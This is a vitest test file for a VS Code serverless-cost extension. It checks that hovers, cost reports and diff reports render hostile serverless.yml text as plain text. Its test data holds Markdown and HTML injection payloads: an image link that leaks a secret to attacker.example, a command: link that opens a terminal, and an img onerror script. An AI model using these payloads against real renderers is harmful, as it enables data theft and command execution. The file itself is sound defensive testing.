// Text from a workspace file never becomes Markdown syntax: the hovers, the cost report and the report of a
// change (all shown by VS Code's Markdown renderers) are rendered here with marked, the renderer VS Code's hovers
// use (GFM, autolinks on), and the HTML is parsed: no image, no link, no HTML element is built from file text,
// and the text itself is shown as written. Our own "Edit usage assumptions" link stays, with its arguments intact.
import { marked } from 'marked';
import { parseFragment } from 'parse5';
import { describe, expect, test } from 'vitest';
import { resolveConfig } from '../../src/core/config.js';
import { estimateWorkload } from '../../src/core/cost/estimate.js';
import { resolveCostSettings } from '../../src/core/cost/settings.js';
import { priceBook } from '../../src/core/cost/price-book.js';
import { emptyUsage } from '../../src/core/cost/usage-file.js';
import { diffSides } from '../../src/core/diff/diff.js';
import { diffMarkdown } from '../../src/core/diff/format.js';
import { analyzeText } from '../../src/core/engine.js';
import { mdCode, mdText, notificationText, plainLabel } from '../../src/core/markdown.js';
import { editUsageLink, hoverMarkdown, reportMarkdown, valueFromHoverLine } from '../../src/core/present/cost.js';

const ATTACKS = [
  '![x](https://attacker.example/?k=SECRET)',
  '[y](command:workbench.action.terminal.new)',
  '<img src=x onerror=alert(1)>',
  '`tick` $(alert) **bold** https://attacker.example/bare www.attacker.example leak@attacker.example &#91;z&#93;(https://attacker.example)',
];
const PAYLOAD = ATTACKS.join(' ');
/** A logical id with what could end a link or a code span early: parenthesis, bracket, quotes, backticks, a line break. */
const BREAKOUT = 'Fn)]"\'`` ![b](https://attacker.example/b)\nnext';

const yamlString = (s: string) => JSON.stringify(s);
const serverless = `service: hostile
provider:
  name: aws
  runtime: ${yamlString(`python3.13 ${PAYLOAD}`)}
  memorySize: \${file(./values.json):memory}
functions:
  ${yamlString(PAYLOAD)}:
    handler: app.handler
    name: ${yamlString(PAYLOAD)}
  ${yamlString(BREAKOUT)}:
    handler: app.handler
`;
const files: Record<string, string> = { 'values.json': JSON.stringify({ memory: PAYLOAD }) };
const readFile = (path: string) => files[path.replace(/^\.\//, '')];
const uri = 'file:///w/serverless.yml';
const model = analyzeText({ uri, text: serverless, readFile }, resolveConfig({})).model!;
const settings = resolveCostSettings({});

interface Element {
  tag: string;
  attrs: Record<string, string>;
}

/** The HTML marked makes of the Markdown (as VS Code's hover renderer does: GFM), as elements and text. */
function render(markdown: string): { elements: Element[]; text: string } {
  const html = marked.parse(markdown, { gfm: true, async: false });
  const elements: Element[] = [];
  let text = '';
  type Node = { nodeName: string; tagName?: string; value?: string; attrs?: { name: string; value: string }[]; childNodes?: Node[] };
  const walk = (node: Node) => {
    if (node.nodeName === '#text') text += node.value;
    if (node.tagName) elements.push({ tag: node.tagName, attrs: Object.fromEntries((node.attrs ?? []).map((a) => [a.name, a.value])) });
    for (const child of node.childNodes ?? []) walk(child);
  };
  walk(parseFragment(html) as unknown as Node);
  return { elements, text };
}

/** Only the elements Markdown itself makes from our templates: no img, no a, no raw HTML from a file. */
const STRUCTURE = new Set([
  'p',
  'strong',
  'em',
  'code',
  'hr',
  'ul',
  'ol',
  'li',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'h1',
  'h2',
  'h3',
  'details',
  'summary',
  'sub',
  'br',
]);

function expectNothingFromTheFile(markdown: string, ownLinks: string[] = []): string {
  const { elements, text } = render(markdown);
  expect(elements.filter((e) => e.tag === 'img')).toEqual([]);
  expect(elements.filter((e) => e.tag === 'a').map((e) => e.attrs['href'])).toEqual(ownLinks);
  expect(elements.filter((e) => e.tag !== 'a' && !STRUCTURE.has(e.tag)).map((e) => e.tag)).toEqual([]);
  // Our links carry the id in their (encoded) arguments: checked on their own below.
  for (const e of elements.filter((e) => !ownLinks.includes(e.attrs['href'] ?? ''))) {
    for (const [name, value] of Object.entries(e.attrs)) expect(`${e.tag} ${name}=${value}`).not.toMatch(/attacker|onerror|command:workbench/);
  }
  return text.replace(/\s+/g, ' ');
}

describe('the functions of a hostile serverless.yml', () => {
  test('are read with the payloads as their ids and their memory unresolved, quoting the file value', () => {
    expect(model.functions.map((f) => f.id)).toEqual([PAYLOAD, BREAKOUT]);
    // (Long values are quoted up to 40 characters.)
    expect(model.functions[0]!.memoryMb.unresolved).toContain(ATTACKS[0]!.slice(0, 30));
  });
});

describe('hovers', () => {
  const [fn, other] = model.functions;
  const e = estimateWorkload({ kind: 'lambda-function', fn: fn! }, 'serverless.yml', emptyUsage(), settings);
  const prices = priceBook(e.region);
  const limits = resolveConfig({}).limits;
  const link = editUsageLink(uri, fn!.id);

  test('memory (inherited from the provider by both functions): the ids and the file value are text', () => {
    const markdown = hoverMarkdown('memory', e, prices, { inheritedBy: [fn!.id, other!.id], editUsage: link, limits });
    const text = expectNothingFromTheFile(markdown, [link]);
    for (const attack of ATTACKS.slice(0, 3)) expect(text).toContain(attack);
    expect(text).toContain('$(alert)');
  });

  test('the line that says where a value comes from (a variable, a parameter, a file value) shows it as text', () => {
    for (const via of [PAYLOAD, BREAKOUT]) {
      const text = expectNothingFromTheFile(valueFromHoverLine(via) + hoverMarkdown('memory', e, prices, { editUsage: link, limits }), [link]);
      expect(text).toContain(`Value from ${via.replace(/\n/g, ' ')}`);
    }
  });

  test('every hover field', () => {
    for (const field of ['timeout', 'architecture', 'provisioned', 'reserved', 'ephemeral'] as const)
      expectNothingFromTheFile(hoverMarkdown(field, e, prices, { editUsage: link, limits }), [link]);
  });

  test('the Edit usage link carries an id with ) ] quotes backticks and a line break intact, and nothing else', () => {
    const target = editUsageLink(uri, BREAKOUT);
    const markdown = hoverMarkdown('memory', estimateWorkload({ kind: 'lambda-function', fn: other! }, 'serverless.yml', emptyUsage(), settings), prices, {
      editUsage: target,
      limits,
    });
    expectNothingFromTheFile(markdown, [target]);
    const [command, query] = target.split('?') as [string, string];
    expect(command).toBe('command:crossover.editUsage');
    expect(query).toMatch(/^[A-Za-z0-9%._~-]+$/);
    expect(JSON.parse(decodeURIComponent(query))).toEqual([uri, BREAKOUT]);
  });
});

test('the cost report (the Markdown preview): title, path, assumptions and notes are text', () => {
  const e = estimateWorkload({ kind: 'lambda-function', fn: model.functions[0]! }, 'serverless.yml', emptyUsage(), settings);
  const text = expectNothingFromTheFile(reportMarkdown(e, `hostile/${PAYLOAD}/serverless.yml`));
  for (const attack of ATTACKS.slice(0, 3)) expect(text).toContain(attack);
  expectNothingFromTheFile(
    reportMarkdown(estimateWorkload({ kind: 'lambda-function', fn: model.functions[1]! }, 'serverless.yml', emptyUsage(), settings), 'serverless.yml'),
  );
});

test('the cost change against HEAD (the Markdown preview): ids, paths and messages are text', () => {
  const path = `hostile/${PAYLOAD}/serverless.yml`;
  const side = (label: string, text: string) => ({ label, files: text ? [{ path, text, readFile }] : [], usageFor: () => emptyUsage() });
  const report = diffSides(side('HEAD', ''), side(PAYLOAD, serverless), { config: resolveConfig({}), settings });
  expect(report.workloads.length).toBe(2);
  for (const markdown of [diffMarkdown(report), diffMarkdown(report, { oneFile: true, title: `Cost change of ${path} against HEAD` })]) {
    const text = expectNothingFromTheFile(markdown);
    expect(text).toContain(ATTACKS[0]);
  }
});

describe('the escapers', () => {
  test('a code span shows backticks, pipes and leading spaces as written, in a table too', () => {
    for (const value of ['a`b', '``x', 'y`', ' lead', 'p|q', 'plain']) {
      expect(render(mdCode(value)).text.replace(/\n$/, '')).toBe(value);
      const table = render(`| a |\n|---|\n| ${mdCode(value, { table: true })} |`);
      expect(table.elements.map((e) => e.tag)).toEqual(['table', 'thead', 'tr', 'th', 'tbody', 'tr', 'td', 'code']);
      expect(table.text).toContain(value);
    }
  });

  test('text at the start of a list item or a heading stays text', () => {
    for (const value of ['- item', '+ item', '# title', '> quote', '1) one', '1. one', '=== x']) {
      const { elements, text } = render(`- ${mdText(value)}`);
      expect(elements.map((e) => e.tag)).toEqual(['ul', 'li']);
      expect(text.trim()).toBe(value);
    }
  });

  test('labels with $(icon) and notifications with [label](command:...) show them as written', () => {
    expect(plainLabel('a $(alert) b\\$(x)')).toBe('a \\$(alert) b\\\\$(x)');
    expect(notificationText('[y](command:workbench.action.terminal.new)')).toBe('[y] (command:workbench.action.terminal.new)');
  });
});
